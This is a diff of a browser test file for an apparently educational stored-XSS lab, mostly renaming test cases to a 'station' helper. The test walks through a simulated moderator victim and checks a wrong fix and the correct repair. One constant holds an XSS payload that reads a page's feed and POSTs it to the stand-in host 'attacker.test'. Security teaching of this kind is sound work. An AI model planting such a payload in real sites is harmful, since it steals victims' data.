@@ -1,13 +1,15 @@
 import assert from "node:assert/strict";
-import { after, before, describe, it } from "node:test";
+import { after, before, describe } from "node:test";
 import { launch, openPage } from "../../support/browser.js";
 import { labFolder } from "../../support/labs.js";
+import { stations } from "../../support/stations.js";
 import { Workspace } from "../../support/workspace.js";
 
 const lab = labFolder("a05-injection/xss-attacks/lab-stored-xss");
 const script = "fetch('/desk/feed').then(r=>r.text()).then(t=>fetch('http://attacker.test/key',{method:'POST',mode:'no-cors',body:t}))";
 
 describe("Stored XSS, with a victim", () => {
+  const station = stations();
   let browser;
   let page;
   let workspace;
@@ -17,7 +19,7 @@ describe("Stored XSS, with a victim", () => {
   });
   after(() => browser.close());
 
-  it("opens from the list and introduces the victim", async () => {
+  station("opens from the list and introduces the victim", async () => {
     workspace = await Workspace.openFromList(page, "Stored XSS");
     assert.match(await page.locator("#panel-brief").innerText(), /Get the feed key/);
     await page.getByRole("tab", { name: "Victim" }).click();
@@ -26,7 +28,7 @@ describe("Stored XSS, with a victim", () => {
     await workspace.screenshot("xss-1-victim");
   });
 
-  it("takes a review through the preview", async () => {
+  station("takes a review through the preview", async () => {
     const ladle = await workspace.preview();
     await workspace.browse("/recipes/1");
     await ladle.getByLabel("Your name").fill("Gundula");
@@ -37,7 +39,7 @@ describe("Stored XSS, with a victim", () => {
     await ladle.getByText("as soon as Mona has read it").waitFor();
   });
 
-  it("brings the moderator, whose browser sends the key", async () => {
+  station("brings the moderator, whose browser sends the key", async () => {
     await page.getByRole("button", { name: "Call Mona" }).click();
     await page.getByText("1. Mona was there").waitFor({ timeout: 120_000 });
     await workspace.untilTaskDone(1);
@@ -50,7 +52,7 @@ describe("Stored XSS, with a victim", () => {
     await workspace.screenshot("xss-3-noticed");
   });
 
-  it("shows what the moderator saw", async () => {
+  station("shows what the moderator saw", async () => {
     await page.getByRole("tab", { name: "Victim" }).click();
     const picture = page.getByRole("img", { name: "The last page of visit 1" });
     await picture.scrollIntoViewIfNeeded();
@@ -58,7 +60,7 @@ describe("Stored XSS, with a victim", () => {
     await workspace.screenshot("xss-4-visit");
   });
 
-  it("rejects script tags taken out", async () => {
+  station("rejects script tags taken out", async () => {
     await workspace.writeFiles(await lab.repair("wrong-fixes/script-tags-removed"));
     const verdict = await workspace.checkMyFix();
     assert.equal(verdict.accepted, false);
@@ -66,7 +68,7 @@ describe("Stored XSS, with a victim", () => {
     await workspace.screenshot("xss-5-rejected");
   });
 
-  it("accepts the repair", async () => {
+  station("accepts the repair", async () => {
     await workspace.writeFiles(await lab.repair("solution"));
     const verdict = await workspace.checkMyFix();
     assert.deepEqual(verdict.checks.filter(({ result }) => result !== "passed"), []);
@@ -75,7 +77,7 @@ describe("Stored XSS, with a victim", () => {
     await workspace.screenshot("xss-6-accepted");
   });
 
-  it("shows the debrief, and what the repair changed", async () => {
+  station("shows the debrief, and what the repair changed", async () => {
     const debrief = await workspace.openDebrief();
     for (const path of ["app/app.py", "app/static/desk.js", "app/templates/recipe.html"]) {
       await debrief.getByRole("region", { name: path }).waitFor();
